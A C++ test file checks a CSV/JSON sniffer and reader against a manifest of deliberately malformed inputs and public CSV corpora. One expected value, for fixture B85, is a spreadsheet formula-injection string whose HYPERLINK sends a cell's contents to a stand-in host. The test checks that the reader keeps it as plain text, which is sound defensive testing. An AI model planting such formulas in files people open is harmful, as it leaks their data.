// SPDX-License-Identifier: GPL-3.0-or-later
// The collection of hostile inputs, row by row of its manifest, and the public corpora of CSV.
#include "models/sources/sniff.h"
#include "tests/sources/support.h"

#include <algorithm>
#include <map>
#include <nlohmann/json.hpp>

namespace goldenrod::sources {
namespace {

using Texts = std::vector<std::string>;

/// What is asserted beside the number of rows that load.
struct Expected {
    const char* id;
    const char* error = "";   ///< sniffing is refused with this code
    const char* problem = ""; ///< code of the bad rows
    std::size_t bad = 0;      ///< how many
    const char* unsure = "";  ///< aspect that must not be certain
    const char* first = "";   ///< a text of the first record
    int records = -1;         ///< instead of the manifest's number, with the reason in a comment
};

const std::vector<Expected> kExpected = {
    {"B01", "", "", 0, "", "C0001"},
    {"B02", "", "", 0, "", "Keller"},
    {"B03", "", "", 0, "", "Keller"},
    {"B04", "", "", 0, "encoding", "Anna"},
    {"B05", "", "", 0, "encoding", "Jürgen"},
    {"B06", "", "", 0, "encoding", "Rene’"},
    {"B07", "", "row.undecodable", 1, "encoding", "Müller"},
    {"B08"},
    {"B09", "", "row.undecodable", 1, "encoding"},
    {"B10", "", "row.undecodable", 1, "encoding"},
    {"B11", "", "row.truncated", 1, "encoding"},
    {"B12", "", "row.truncated", 1},
    {"B13", "", "row.nul", 1},
    {"B14"},
    {"B15"},
    {"B16", "", "", 0, "", "An\u0085na"},
    {"B17", "", "", 0, "encoding", "Keller"},
    {"B18", "extract.not_text"},
    {"B19", "", "", 0, "", "", 1}, // offered unpacked
    {"B20", "extract.empty"},
    {"B21"},
    {"B22", "", "", 0, "first_line", "C0001"},
    {"B23"},
    {"B24"},
    {"B25"},
    {"B26"},
    {"B27", "", "row.too_few_fields", 1},
    {"B28", "", "row.too_many_fields", 1},
    {"B29", "", "row.too_many_fields", 1},
    {"B30", "", "row.unclosed_quote", 1, "quote"},
    {"B31", "", "", 0, "", "Anna \"Annie\" Lee"},
    {"B32", "", "row.text_after_quote", 1, "quote"},
    {"B33", "", "", 0, "escape", "An\"na"},
    {"B34", "", "", 0, "", "Anna\nMaria"},
    {"B35", "", "", 0, "", "08001"},
    {"B36"},
    {"B37"},
    {"B38"},
    {"B39"},
    {"B40", "", "", 0, "preamble", "Anna"},
    {"B41"},
    // The import compares the control count and refuses; the reader hands it over (see below).
    {"B42", "", "", 0, "", "", 1},
    {"B43", "", "", 0, "", "1.234,56"},
    {"B44", "", "", 0, "", "  B"},
    {"B45", "", "row.too_many_fields", 1},
    {"B46"},
    {"B47", "extract.too_many_columns"},
    {"B48", "", "row.value_too_long", 1},
    {"B49"},
    {"B50"},
    // The import knows which column is the key.
    {"B51", "", "", 0, "", "Carl", 1},
    // Fixed width is not read yet: offered as another reading, the lines in one column.
    {"B52", "", "", 0, "delimiter", "", 2},
    {"B53", "", "", 0, "delimiter", "", 1},
    {"B54", "", "", 0, "delimiter", "", 0},
    {"B55", "extract.not_text"},
    {"B85", "", "", 0, "", "=HYPERLINK(\"http://x.invalid/\"&A1,\"ok\")"},
    {"B86", "", "", 0, "", "+41441234567"},
    {"B91", "extract.json_not_lines"},
    // Not one object can be read; the elements are tested as lines below.
    {"B92", "extract.json_not_lines"},
    {"B93", "", "", 0, "", "12345678901234567890"},
    {"B94", "extract.json_not_lines"},
    {"B95", "extract.json_not_lines"},
    {"B96", "", "row.json_invalid", 1, "format"},
    // The import knows which column is the key.
    {"B97", "", "row.json_not_object", 1, "format", "01001", 3},
    {"B98", "extract.json_not_lines"},
    {"B99", "extract.not_text"},
    {"B109", "extract.not_text"},
    {"B112", "extract.not_text"},
};

void checkFile(const std::filesystem::path& path, const Expected& expected, const std::string& records) {
    const Result<Sniffed> sniffed = sniff(path);
    if (*expected.error != 0) {
        ASSERT_FALSE(sniffed);
        EXPECT_EQ(sniffed.error().code.id(), expected.error);
        return;
    }
    ASSERT_TRUE(sniffed) << sniffed.error().code.id();
    for (const Finding& finding : sniffed->findings) {
        if (finding.aspect == expected.unsure) {
            EXPECT_FALSE(finding.certain) << finding.aspect;
        }
        EXPECT_TRUE(finding.certain || !finding.alternatives.empty() || finding.aspect == "encoding" ||
                    finding.aspect == "format")
            << finding.aspect;
    }
    const std::vector<ReadRow> rows = readAll(path, sniffed->dialect);
    const std::vector<ReadRow> loaded = only(rows, RowKind::Record), bad = only(rows, RowKind::Bad);
    EXPECT_EQ(std::to_string(loaded.size()),
              expected.records >= 0 ? std::to_string(expected.records) : records);
    EXPECT_EQ(bad.size(), expected.bad);
    for (const ReadRow& row : bad) EXPECT_EQ(row.problem.code.id(), expected.problem);
    if (*expected.first != 0) {
        ASSERT_FALSE(loaded.empty());
        const Texts& texts = loaded.front().texts;
        EXPECT_NE(std::find(texts.begin(), texts.end(), expected.first), texts.end()) << expected.first;
    }
    // The preview shows what is loaded, as far as the part of the file that was looked at goes.
    if (sniffed->fileSize < 4u << 20) {
        EXPECT_EQ(sniffed->preview.size(), std::min<std::size_t>(200, loaded.size()));
    }
    for (std::size_t i = 0; i < sniffed->preview.size(); ++i) EXPECT_EQ(sniffed->preview[i], loaded[i].texts);
}

/// Files of the manifest that the readers of this folder concern.
bool concernsUs(const Texts& row) {
    const std::string& category = row[2];
    return !row[1].empty() && category != "xlsx" && category != "sql" && category != "resource";
}

TEST(BadInput, EveryFileDoesWhatTheManifestSays) {
    const std::filesystem::path folder = sharedFile("bad_input/_generated");
    REQUIRE_SHARED(folder);
    Dialect dialect =
        delimited({"id", "file", "category", "what", "right_behaviour", "rows_loaded_expected"});
    std::size_t checked = 0;
    for (const ReadRow& row : only(readAll(folder / "manifest.csv", dialect), RowKind::Record)) {
        Expected expected{row.texts[0].c_str()};
        const auto at = std::find_if(kExpected.begin(), kExpected.end(),
                                     [&](const Expected& e) { return row.texts[0] == e.id; });
        if (at != kExpected.end()) expected = *at;
        if (at == kExpected.end() && !concernsUs(row.texts)) continue;
        SCOPED_TRACE(row.texts[1]);
        checkFile(folder / row.texts[1], expected, row.texts[5]);
        ++checked;
    }
    EXPECT_GE(checked, 98u);
}

TEST(BadInput, WhatTheManifestAsksBesides) {
    const std::filesystem::path folder = sharedFile("bad_input/_generated");
    REQUIRE_SHARED(folder);
    const auto columns = [&](const char* name) { return sniff(folder / name)->dialect.columns; };
    const auto rows = [&](const char* name) { return readAll(folder / name, sniff(folder / name)->dialect); };
    EXPECT_EQ(columns("B01_utf8_bom.csv")[0], "cust_id");
    EXPECT_EQ(columns("B23_dup_headers.csv"), (Texts{"id", "name", "name_2", "dob"}));
    EXPECT_EQ(columns("B24_blank_header.csv"), (Texts{"id", "column_2", "name"}));
    EXPECT_EQ(columns("B25_case_dup_headers.csv"), (Texts{"ID", "id_2", "Name"}));
    EXPECT_EQ(columns("B39_trailing_delim.csv"), (Texts{"id", "name", "column_3"}));
    EXPECT_EQ(sniff(folder / "B18_binary_png.csv").error().arguments[1], "png");
    EXPECT_EQ(sniff(folder / "B19_gzip_renamed.csv")->dialect.packing.as, "gzip");
    EXPECT_EQ(sniff(folder / "B47_many_columns.csv").error().arguments[2], "2000");
    EXPECT_EQ(only(rows("B14_nul_padding_tail.csv"), RowKind::Padding)[0].length, 4096u);
    EXPECT_EQ(only(rows("B15_ctrl_z_eof.csv"), RowKind::Padding)[0].length, 1u);
    EXPECT_EQ(only(rows("B30_unbalanced_quote.csv"), RowKind::Bad)[0].line, 2u);
    EXPECT_EQ(only(rows("B34_newline_in_quotes.csv"), RowKind::Record)[1].line, 4u);
    EXPECT_EQ(only(rows("B38_blank_lines.csv"), RowKind::Blank).size(), 5u);
    EXPECT_EQ(only(rows("B40_preamble.csv"), RowKind::Preamble).size(), 3u);
    EXPECT_EQ(only(rows("B46_repeated_header.csv"), RowKind::RepeatedHeader).size(), 1u);
    for (const char* name : {"B41_trailer.csv", "B42_trailer_mismatch.csv"}) {
        const auto trailers = only(rows(name), RowKind::Trailer);
        ASSERT_EQ(trailers.size(), 1u);
        EXPECT_EQ(trailers[0].texts, (Texts{"TRAILER", "2"}));
    }
}

ReadRow parseJson(std::string_view line, Texts columns) {
    Dialect dialect;
    dialect.format = Format::Ndjson;
    dialect.columns = std::move(columns);
    RowParser parser(dialect);
    Row row;
    parser.parse(line, 0, 1, row);
    return keep(row);
}

TEST(BadInput, ElementsOfTheJsonFilesAsLines) {
    const std::filesystem::path folder = sharedFile("bad_input/_generated");
    REQUIRE_SHARED(folder);
    const auto elements = [&](const char* name) {
        const std::string content = contentOf(folder / name);
        return content.substr(1, content.rfind(']') - 1);
    };
    EXPECT_EQ(parseJson(elements("B92_dup_keys.json"), {"id", "name"}).problem.code, kRowJsonDuplicateKey);
    EXPECT_EQ(parseJson(elements("B93_big_number.json"), {"id", "x", "y"}).texts,
              (Texts{"12345678901234567890", "1e400", "0.1"}));
    EXPECT_EQ(parseJson(elements("B94_lone_surrogate.json"), {"id", "name"}).problem.code, kRowJsonInvalid);
    EXPECT_EQ(parseJson(elements("B95_nul_escape.json"), {"id", "name"}).problem.code, kRowNul);
    const std::string mixed = elements("B97_heterogeneous.json");
    const std::size_t second = mixed.find("},{") + 2;
    EXPECT_EQ(parseJson(mixed.substr(0, second - 1), {"id", "addr.zip"}).texts, (Texts{"1", "01001"}));
    const std::string rest = mixed.substr(second);
    const std::size_t third = rest.find("},{") + 2;
    EXPECT_EQ(parseJson(rest.substr(0, third - 1), {"id", "addr.zip"}).unknownKeys, Texts{"addr"});
    EXPECT_EQ(parseJson("42", {"id"}).problem.code, kRowJsonNotObject);
    EXPECT_EQ(parseJson(elements("B98_nan_trailing.json"), {"id", "x"}).problem.code, kRowJsonInvalid);
}

/// The corpus says what each file holds; two of its files were stored otherwise than it says.
TEST(BadInput, CsvSpectrum) {
    const std::filesystem::path folder = sharedFile("bad_input/csv-spectrum");
    REQUIRE_SHARED(folder);
    std::size_t checked = 0;
    for (const auto& entry : std::filesystem::directory_iterator(folder / "csvs")) {
        const std::string stem = entry.path().stem();
        SCOPED_TRACE(stem);
        auto expected = nlohmann::json::parse(contentOf(folder / "json" / (stem + ".json")));
        if (expected.is_object()) expected = nlohmann::json::array({expected});
        const Result<Sniffed> sniffed = sniff(entry.path());
        ASSERT_TRUE(sniffed);
        const auto records = only(readAll(entry.path(), sniffed->dialect), RowKind::Record);
        ASSERT_EQ(records.size(), expected.size());
        for (std::size_t r = 0; r < records.size(); ++r) {
            ASSERT_EQ(records[r].texts.size(), expected[r].size());
            for (std::size_t c = 0; c < records[r].texts.size(); ++c) {
                std::string text = expected[r][sniffed->dialect.columns[c]];
                // Stored with LF although the corpus says CRLF; the first column of the empty files and a
                // phone number differ between the file and its description.
                if (stem == "newlines_crlf")
                    text.erase(std::remove(text.begin(), text.end(), '\r'), text.end());
                const bool differs = stem == "location_coordinates" && c == 0;
                EXPECT_EQ(records[r].texts[c], differs ? "2095257564" : text);
            }
        }
        ++checked;
    }
    EXPECT_EQ(checked, 12u);
}

TEST(BadInput, CsvLint) {
    const std::filesystem::path folder = sharedFile("bad_input/csvlint/features/fixtures");
    REQUIRE_SHARED(folder);
    struct Case {
        std::size_t records, bad, preamble;
        const char* error;
    };
    const std::map<std::string, Case> cases = {
        {"cr-line-endings.csv", {2, 0, 0, ""}},
        {"crlf-line-endings.csv", {2, 0, 0, ""}},
        {"inconsistent-line-endings-unquoted.csv", {2, 0, 0, ""}},
        {"inconsistent-line-endings.csv", {2, 0, 0, ""}},
        {"invalid-byte-sequence.csv", {23, 0, 0, ""}}, // read as windows-1252
        {"invalid_many_rows.csv", {8, 1, 0, ""}},
        {"lf-line-endings.csv", {2, 0, 0, ""}},
        {"spreadsheet.xls", {0, 0, 0, "ole"}},
        {"spreadsheet.xlsx", {0, 0, 0, "xlsx"}},
        {"title-row.csv", {2, 0, 1, ""}},
        {"valid.csv", {2, 0, 0, ""}},
        {"valid_many_rows.csv", {6, 0, 0, ""}},
        {"white space in filename.csv", {2, 0, 0, ""}},
        {"windows-line-endings.csv", {1, 0, 0, ""}},
    };
    std::size_t files = 0;
    for (const auto& entry : std::filesystem::directory_iterator(folder)) {
        if (!entry.is_regular_file()) continue;
        ++files;
        SCOPED_TRACE(entry.path().filename());
        const auto at = cases.find(entry.path().filename());
        ASSERT_NE(at, cases.end());
        const Result<Sniffed> sniffed = sniff(entry.path());
        if (*at->second.error != 0) {
            ASSERT_FALSE(sniffed);
            EXPECT_EQ(sniffed.error().arguments[1], at->second.error);
            continue;
        }
        ASSERT_TRUE(sniffed);
        const auto rows = readAll(entry.path(), sniffed->dialect);
        EXPECT_EQ(only(rows, RowKind::Record).size(), at->second.records);
        EXPECT_EQ(only(rows, RowKind::Bad).size(), at->second.bad);
        EXPECT_EQ(only(rows, RowKind::Preamble).size(), at->second.preamble);
    }
    EXPECT_EQ(files, cases.size());
}

TEST(BadInput, EveryMatchingSetLoadsWithoutABadRow) {
    const std::filesystem::path folder = sharedFile("matching");
    REQUIRE_SHARED(folder);
    std::size_t files = 0;
    for (const auto& set : std::filesystem::directory_iterator(folder)) {
        if (!set.is_directory()) continue;
        for (const auto& entry : std::filesystem::directory_iterator(set.path())) {
            if (entry.path().extension() != ".csv") continue;
            SCOPED_TRACE(entry.path());
            const Result<Sniffed> sniffed = sniff(entry.path());
            ASSERT_TRUE(sniffed);
            EXPECT_TRUE(sniffed->dialect.hasHeader);
            EXPECT_EQ(sniffed->dialect.delimiter, U',');
            Result<RowReader> reader = RowReader::open(entry.path(), sniffed->dialect);
            ASSERT_TRUE(reader);
            Row row;
            Result<bool> more = reader->next(row);
            for (; more && *more; more = reader->next(row)) ASSERT_NE(row.kind, RowKind::Bad) << row.line;
            ASSERT_TRUE(more);
            ++files;
        }
    }
    EXPECT_GE(files, 30u);
}

} // namespace
} // namespace goldenrod::sources
